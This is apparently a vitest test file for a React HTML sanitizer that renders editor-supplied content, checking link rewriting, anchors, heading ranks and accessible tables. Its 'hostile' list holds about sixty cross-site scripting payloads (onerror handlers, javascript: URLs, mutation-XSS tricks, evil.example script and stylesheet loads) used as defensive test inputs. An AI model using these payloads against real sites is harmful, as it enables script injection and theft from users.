import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test, vi } from 'vitest'
import { ExternalIcon } from '../links/anchor.tsx'
import { renderHtml } from './render-html.tsx'

const hosts = { own: ['www.leaders.example'], platform: ['members.leaders.example'] }
const html = (source: string, report?: (message: string) => void) =>
  renderToStaticMarkup(renderHtml(source, { hosts, report }))

const allowed =
  /^(?:a|abbr|b|blockquote|br|caption|cite|code|col|colgroup|dd|del|div|dl|dt|em|figcaption|figure|h[2-6]|hr|i|img|ins|kbd|li|mark|ol|p|pre|q|s|small|span|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|u|ul)$/

const icon = renderToStaticMarkup(createElement(ExternalIcon))

function survivors(markup: string): string[] {
  const tags = [...markup.replaceAll(icon, '').matchAll(/<\/?([a-z][^\s/>]*)([^>]*)>/gi)]
  return tags
    .filter(([, name = '', attributes = '']) => {
      const unquoted = attributes.replaceAll(/"[^"]*"/g, '""')
      const addresses = [...attributes.matchAll(/(?:href|src)="([^"]*)"/gi)].map(
        ([, address = '']) => address,
      )
      return (
        !allowed.test(name.toLowerCase()) ||
        /\bon\w+\s*=|\bstyle\s*=|srcdoc|xlink|formaction/i.test(unquoted) ||
        addresses.some(
          (address) => !/^(?:https?:\/\/|mailto:|tel:|\/(?!\/)|[?#]|[^:/\\]+(?:\/|$))/i.test(address),
        )
      )
    })
    .map(([tag]) => tag)
}

const payload = 'alert(document.domain)'
const hostile = [
  `<script>${payload}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${payload}</scr</script>ipt>`,
  `<img src=x onerror=${payload}>`,
  `<img src="https://a.example/x.png" onload="${payload}">`,
  `<img/src='x'/onerror='${payload}'>`,
  `<svg onload=${payload}>`,
  `<svg><script>${payload}</script></svg>`,
  `<svg><a xlink:href="javascript:${payload}"><text>x</text></a></svg>`,
  `<svg><animate attributeName=href values=javascript:${payload} />`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${payload}>`,
  `<math href="javascript:${payload}">x</math>`,
  `<a href="javascript:${payload}">x</a>`,
  `<a href="  JaVaScRiPt&colon;${payload}">x</a>`,
  `<a href="java&#10;script:${payload}">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href="/\\evil.example">x</a>`,
  `<img src="data:image/svg+xml,<svg onload=${payload}>">`,
  `<img src="javascript:${payload}">`,
  `<img src="//evil.example/x.png">`,
  `<img src="">`,
  `<iframe src="javascript:${payload}"></iframe>`,
  `<iframe srcdoc="<script>${payload}</script>"></iframe>`,
  `<object data="javascript:${payload}"></object>`,
  `<embed src="javascript:${payload}">`,
  `<form action="javascript:${payload}"><button formaction="javascript:${payload}">x</button></form>`,
  `<input autofocus onfocus=${payload}>`,
  `<details open ontoggle=${payload}>x</details>`,
  `<video><source onerror=${payload}></video>`,
  `<audio src=x onerror=${payload}>`,
  `<body onload=${payload}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${payload}">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css"</style>`,
  `<div style="background:url(javascript:${payload})">x</div>`,
  `<div style="position:fixed;inset:0">x</div>`,
  `<noscript><p title="</noscript><img src=x onerror=${payload}>">`,
  `<template><img src=x onerror=${payload}></template>`,
  `<textarea><img src=x onerror=${payload}></textarea>`,
  `<title><img src=x onerror=${payload}></title>`,
  `<xmp><img src=x onerror=${payload}></xmp>`,
  `<plaintext><img src=x onerror=${payload}>`,
  `<select><option><img src=x onerror=${payload}></select>`,
  `<table><td background="javascript:${payload}">x</td></table>`,
  `<p class="x' onclick='${payload}">x</p>`,
  `<p id="constructor">x</p><p id=location>x</p>`,
  `<!--><img src=x onerror=${payload}>-->`,
  `<![CDATA[<img src=x onerror=${payload}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${payload}>`,
  `<b <script>${payload}</script>0`,
  `"><img src=x onerror=${payload}>`,
  `</div></div><script>${payload}</script>`,
  `<a href="https://ok.example" target=_self onclick=${payload} ping=https://evil.example>x</a>`,
  `<marquee onstart=${payload}>x</marquee>`,
  `<custom-element onclick=${payload}>x</custom-element>`,
  `<frameset onload=${payload}><frame src=javascript:${payload}></frameset>`,
]

describe('hostile HTML', () => {
  test.each(hostile)('%s renders harmless markup', (source) => {
    const markup = html(`<p>before</p>${source}`)
    expect(survivors(markup)).toEqual([])
    expect(markup).toContain('before')
    expect(markup).not.toMatch(/javascript:|vbscript:|srcdoc/i)
  })

  test('ids cannot shadow global variables of scripts', () => {
    expect(html('<p id="location">x</p>')).toBe('<p><a name="location"></a>x</p>')
    expect(html('<img name="location" src="/x.png">')).not.toContain('location')
  })

  test('100,000 nested elements are cut like any other text that is too long', () => {
    const report = vi.fn()
    const markup = html(`${'<div>'.repeat(100_000)}deep`, report)
    expect(survivors(markup)).toEqual([])
    expect(report).toHaveBeenCalledWith(expect.stringContaining('65536'))
  })

  test('keeps content below 100 levels of elements as text', () => {
    const markup = html(`${'<div>'.repeat(150)}deep <b>down</b>${'</div>'.repeat(150)}`)
    expect(markup.match(/<div>/g)).toHaveLength(101)
    expect(markup).toContain('>deep down<')
  })

  test('shows and reports unreadable HTML as text', () => {
    const report = vi.fn()
    expect(html(`${'<div>'.repeat(5000)}deep &amp; <b>down</b>`, report).trim()).toBe('deep &amp;amp;  down')
    expect(report).toHaveBeenCalledWith(
      'contains HTML that cannot be parsed: its elements are nested too deeply.',
    )
  })

  test('a long table whose cells are never closed is not deep', () => {
    const report = vi.fn()
    expect(html(`<table>${'<tr><th>a<td><p>b<br>c'.repeat(1500)}`, report).match(/<tr>/g)).toHaveLength(1500)
    expect(report).not.toHaveBeenCalled()
  })

  test('100 KB are cut at 64 KB and reported', () => {
    const report = vi.fn()
    const markup = html(`<p>${'<b>x</b>'.repeat(14_000)}`, report)
    expect(markup.length).toBeLessThan(70_000)
    expect(report).toHaveBeenCalledWith(expect.stringContaining('65536'))
  })

  test('repairs the content of a removed element as a browser does', () => {
    expect(html('<p>a<button><p>b</button>c')).toBe('<p>a</p><p>b</p>c<p></p>')
    expect(html('<a href=/x>a<marquee><a href=/y id=y>b</a></marquee></a>')).toBe(
      '<a href="/x">a</a><a href="/y" name="y">b</a>',
    )
  })

  test('alignment lets no other style pass', () => {
    expect(html('<table><tr><td align="right" valign="top">x</table>')).toContain(
      '<td style="vertical-align:top;text-align:right">x',
    )
    expect(html('<table><tr><td align="left;position:fixed" valign="top;inset:0">x</table>')).toContain(
      '<td>x',
    )
  })

  test('misnested formatting does not multiply', () => {
    const source = '<b><p>'.repeat(8000)
    expect(html(source).length).toBeLessThan(10 * source.length)
  })
})

describe('HTML of editors', () => {
  test.each([
    ['<p>A <em>b</em> <strong>c</strong></p>', '<p>A <em>b</em> <strong>c</strong></p>'],
    ['one<br>two', 'one<br/>two'],
    ['<ul><li>one</li><li>two</li></ul>', '<ul><li>one</li><li>two</li></ul>'],
    ['<ol start="3"><li>three</li></ol>', '<ol start="3"><li>three</li></ol>'],
    ['<p class="text-center py-3">x</p>', '<p class="text-center py-3">x</p>'],
    ['<td>lonely cell</td>', 'lonely cell'],
    ['5 &lt; 6 &amp; 7 > 6', '5 &lt; 6 &amp; 7 &gt; 6'],
    ['Café – “naïve”', 'Café – “naïve”'],
    ['<center>old</center>', 'old'],
    ['', ''],
  ])('%s', (source, expected) => expect(html(source)).toBe(expected))

  test('links follow the rule of the site', () => {
    expect(html('<a href="https://www.leaders.example/news/x">x</a>')).toBe('<a href="/articles/x">x</a>')
    const external = html('<a href="https://a.example/">x</a>')
    expect(external).toMatch(/^<a href="https:\/\/a.example\/" target="_blank" rel="noopener">x<svg/)
    expect(external).toContain('aria-label="(opens in a new tab)"')
    expect(html('<a href="a@b.example">x</a>')).toContain('mailto:a@b.example')
  })

  test('a picture keeps its size and waits until it is seen', () => {
    expect(html('<img src="https://a.example/x.png" alt="A" width="10" height="5">')).toBe(
      '<img alt="A" src="https://a.example/x.png" width="10" height="5" loading="lazy"/>',
    )
  })
})

describe('anchors', () => {
  const link = '<a href="#fees">x</a>'
  test.each([
    ['<h2 id="fees">Fees</h2>', '<h2><a name="fees"></a>Fees</h2>'],
    ['<a name="fees"></a>Fees', '<a name="fees"></a>Fees'],
    ['<a id="fees" href="/x">Fees</a>', '<a href="/x" name="fees">Fees</a>'],
    ['<a href="/x"><b id="fees">Fees</b></a>', '<a href="/x" name="fees"><b>Fees</b></a>'],
    ['<ul id="fees"><li>1</li></ul>', '<ul><li><a name="fees"></a>1</li></ul>'],
    ['<hr id="fees">', '<a name="fees"></a><hr/>'],
    ['<ul id="fees"></ul>', '<a name="fees"></a><ul></ul>'],
  ])('a link reaches %s', (source, expected) => expect(html(link + source)).toBe(link + expected))

  test('a table, its rows and its cells are reached in their first cell', () =>
    expect(
      html('<table id="a"><tr id="b"><th id="c">1</th><td headers="c">2</td></tr></table>').match(
        /<t[hd].*<\/tr>/,
      )?.[0],
    ).toBe(
      '<th scope="row" id="editor-c"><a name="c"></a><a name="b"></a><a name="a"></a>1</th><td headers="editor-c">2</td></tr>',
    ))

  test('one elsewhere on the page stays', () =>
    expect(html('<a href="#top">x</a>')).toBe('<a href="#top">x</a>'))
})

describe('headings', () => {
  const at = (rank: number, source: string) =>
    renderToStaticMarkup(renderHtml(source, { hosts, rank })).replace(/<\/.*?>/g, '')
  test.each([
    [2, '<h1>a</h1><h2>b</h2>', '<h2>a<h3>b'],
    [2, '<h2>a</h2><h3>b</h3>', '<h2>a<h3>b'],
    [4, '<h2>a</h2><h3>b</h3><h6>c</h6>', '<h4>a<h5>b<h6>c'],
    [2, '<h4>a</h4><h6>b</h6><h4>c</h4>', '<h2>a<h3>b<h2>c'],
  ])('where rank %d is the highest, %s', (rank, source, expected) => expect(at(rank, source)).toBe(expected))
})

describe('tables', () => {
  const cells = (source: string) => html(source).match(/<t[hd]\b[^>]*>[^<]*/g)

  test('scroll in a region named by the caption, which the keyboard reaches', () =>
    expect(html('<table><caption> Annual <b>fees</b> </caption><tr><td>x</td></tr></table>')).toMatch(
      /^<div role="region" aria-label="Annual fees" class="scroll" tabindex="0"><table class="table"><caption>/,
    ))

  test('without a caption they are no landmark', () =>
    expect(html('<table class="wide"><tr><td>x</td></tr></table>')).toMatch(
      /^<div role="group" aria-label="Table" class="scroll" tabindex="0"><table class="table wide">/,
    ))

  test('header cells of the head and of a first row of headers head their columns', () => {
    expect(cells('<table><thead><tr><th>a</th><td>b</td></tr></thead></table>')).toEqual([
      '<th scope="col">a',
      '<td>b',
    ])
    expect(cells('<table><tr><th>a</th><th>b</th></tr></table>')).toEqual([
      '<th scope="col">a',
      '<th scope="col">b',
    ])
  })

  test('any other header cell heads its row, unless the editor set a scope', () =>
    expect(
      cells('<table><tr><th>a</th><td>1</td></tr><tr><th scope="rowgroup">b</th><td>2</td></tr></table>'),
    ).toEqual(['<th scope="row">a', '<td>1', '<th scope="rowgroup">b', '<td>2']))
})
